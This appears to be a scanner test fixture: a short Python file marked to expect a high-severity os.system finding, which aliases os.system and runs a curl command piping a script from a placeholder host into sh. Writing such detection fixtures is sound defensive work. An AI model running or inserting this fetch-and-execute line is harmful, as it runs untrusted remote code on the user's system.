# expect: python.os_system high
# path: tools/h.py
from os import system as run
run('curl https://get.example.net/x | sh')
